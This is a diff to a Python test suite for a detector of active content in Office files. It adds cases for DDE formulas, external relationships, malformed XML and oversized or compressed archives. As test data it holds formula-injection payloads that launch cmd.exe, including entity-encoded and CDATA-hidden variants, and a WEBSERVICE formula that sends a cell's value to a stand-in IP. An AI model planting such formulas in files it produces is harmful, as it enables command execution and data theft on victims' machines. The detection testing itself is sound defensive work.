@@ -96,7 +96,7 @@ TAKEN = {
         DOCX,
     ),
     "document with fields": (
-        document("<w:r><w:instrText> PAGE </w:instrText></w:r><w:fldSimple w:instr=' TOC \\o \"DDE basics\" '/>"),
+        document("<w:r><w:instrText> PAGE </w:instrText></w:r><w:fldSimple w:instr=' TOC \\o \"1-3\" '/>"),
         DOCX,
     ),
     "invoice with its figures": (
@@ -111,16 +111,17 @@ TAKEN = {
         PDF,
     ),
 }
-SENT_FOR, EMBEDDED, SCRIPT = ActiveContent.SENT_FOR, ActiveContent.EMBEDDED, ActiveContent.SCRIPT
+SENT_FOR, EMBEDDED, SCRIPT, UNREADABLE = (
+    ActiveContent.SENT_FOR,
+    ActiveContent.EMBEDDED,
+    ActiveContent.SCRIPT,
+    ActiveContent.UNREADABLE,
+)
 REFUSED = {
     "formula of another program": (formula("=cmd|'/C calc'!A0"), SENT_FOR),
     "formula of another program in the midst": (formula("=1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), SENT_FOR),
     "formula that fetches": (formula('=_xlfn.WEBSERVICE("http://192.0.2.1/?a="&B1)'), SENT_FOR),
     "name of another program": (defined("=cmd|'/C calc'!A0"), SENT_FOR),
-    "stroke as a number": (
-        workbook(**{"xl/worksheets/sheet7.xml": "<worksheet><c><f>cmd&#124;'/C calc'!A0</f></c></worksheet>"}),
-        SENT_FOR,
-    ),
     "stroke between pieces": (
         workbook(**{"xl/worksheets/sheet7.xml": " " * (1024 * 1024 - 6) + "<c><f>cmd|'/C calc'!A0</f></c>"}),
         SENT_FOR,
@@ -180,11 +181,113 @@ def test_what_acts_or_reaches_out_is_found(name):
     assert find_active_content(opened(body), kind) is what
 
 
-@pytest.mark.parametrize("mark", ["<f ", "<f>", "<Relationship ", "&#", "<w:instrText "])
+LONG = 9_000
+HOSTILE = [
+    "<f ",
+    "<f>",
+    "<f><",
+    "<f>1</f>",
+    "<f a='",
+    '<f>"',
+    "<f>'",
+    "&#49;",
+    "<w:instrText ",
+    "<x instr=",
+    "a" * LONG,
+]
+
+
+@pytest.mark.parametrize("mark", HOSTILE)
 def test_hostile_text_takes_no_time_of_its_own(mark):
     """Each of these would be looked at again from every place of the text, were it not for their bounds."""
-    text = mark * (2_000_000 // len(mark))
-    body = workbook(**{"xl/worksheets/sheet7.xml": text, "xl/_rels/a.rels": text, "word/a.xml": text})
+    text = mark * (4_000_000 // len(mark)) + "<f>|</f><w:instrText>DDE</w:instrText>"
     began = time.process_time()
-    assert find_active_content(opened(body), XLSX) is None
+    for kind, name in ((XLSX, "xl/worksheets/sheet7.xml"), (DOCX, "word/a.xml")):
+        assert find_active_content(opened(workbook(**{name: text})), kind) in {SENT_FOR, UNREADABLE}
     assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize(
+    "relations",
+    [
+        "<Relationship " + "a" * LONG,
+        "<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>",
+        f"<a>{' ' * 4 * 1024 * 1024}</a>",
+        '<Relationships><Relationship Target="&#' + "9" * 5000 + ';"/></Relationships>',
+    ],
+    ids=["broken", "definitions", "too much", "no character"],
+)
+def test_lists_of_parts_that_cannot_be_read_are_refused(relations):
+    assert find_active_content(opened(document(**{DOCUMENT_RELS: relations})), DOCX) is UNREADABLE
+
+
+@pytest.mark.parametrize("space", ["\n" * LONG, " xmlns:r='a' "], ids=["far apart", "namespaces"])
+@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16", "ISO-8859-1"])
+def test_lists_of_parts_are_read_however_they_are_written(encoding, space):
+    text = (
+        relationship("image", "http://a.example/")
+        .replace("UTF-8", encoding)
+        .replace("<Relationship ", "<Relationship " + space)
+    )
+    assert find_active_content(opened(document(**{DOCUMENT_RELS: text.encode(encoding)})), DOCX) is SENT_FOR
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "<c><f>cmd&#124;'/C calc'!A0</f></c>",
+        "<c><f>cmd&#x7C;'/C calc'!A0</f></c>",
+        "<c><f><![CDATA[cmd|'/C calc'!A0]]></f></c>",
+        "<c><f>1+<!-- --></f></c>",
+        "<c><f>1</f></c>".encode("utf-16"),
+        '<?xml version="1.0" encoding="UTF-7"?><c/>',
+        "<c><f>" + "1+" * 1024 * 1024,
+    ],
+    ids=["number", "hexadecimal", "data", "comment", "sixteen bits", "encoding", "endless"],
+)
+def test_sheets_written_as_no_program_writes_them_are_refused(written):
+    assert find_active_content(opened(workbook(**{"xl/worksheets/sheet7.xml": written})), XLSX) is UNREADABLE
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        '<f a=\'>"\' >cmd|""!A1</f>',
+        "<x:f\n>cmd|'a'!A1</x:f>",
+        "<é:f>cmd|'a'!A1</é:f>",
+        f"<f a='{'b' * 50_000}'>cmd|'a'!A1</f>",
+    ],
+    ids=["bracket in quotes", "namespace", "foreign namespace", "long attribute"],
+)
+def test_formulas_are_found_however_their_tags_are_written(written):
+    padded = " " * (1024 * 1024 - 20) + written
+    assert find_active_content(opened(workbook(**{"xl/worksheets/sheet7.xml": padded})), XLSX) is SENT_FOR
+
+
+def test_words_of_a_field_are_put_together_across_pieces():
+    cut = "<w:p><w:instrText>DD</w:instrText></w:p>" + "<w:p/>" * 200_000 + "<w:instrText>E a</w:instrText>"
+    assert find_active_content(opened(document(cut)), DOCX) is SENT_FOR
+
+
+def test_a_broken_part_is_refused():
+    whole = workbook(**{"xl/a.xml": "<a/><a/>"}).getvalue()
+    assert find_active_content(opened(whole), XLSX) is None
+    assert find_active_content(opened(whole.replace(b"<a/><a/>", b"<b/><b/>")), XLSX) is UNREADABLE
+
+
+@pytest.mark.parametrize(
+    ("packing", "size", "found"),
+    [
+        (zipfile.ZIP_STORED, 32 * 1024 * 1024, UNREADABLE),
+        (zipfile.ZIP_DEFLATED, 5 * 1024 * 1024, UNREADABLE),
+        (zipfile.ZIP_STORED, 5 * 1024 * 1024, None),
+        (zipfile.ZIP_DEFLATED, 3 * 1024 * 1024, None),
+    ],
+    ids=["too much", "packed too well", "much", "packed well"],
+)
+def test_so_much_is_looked_through(packing, size, found):
+    heavy = io.BytesIO()
+    with zipfile.ZipFile(heavy, "w", packing) as archive:
+        archive.writestr("[Content_Types].xml", TYPES)
+        archive.writestr("xl/workbook.xml", "<workbook/>" + "<a/>" * (size // 4))
+    assert find_active_content(heavy, XLSX) is found
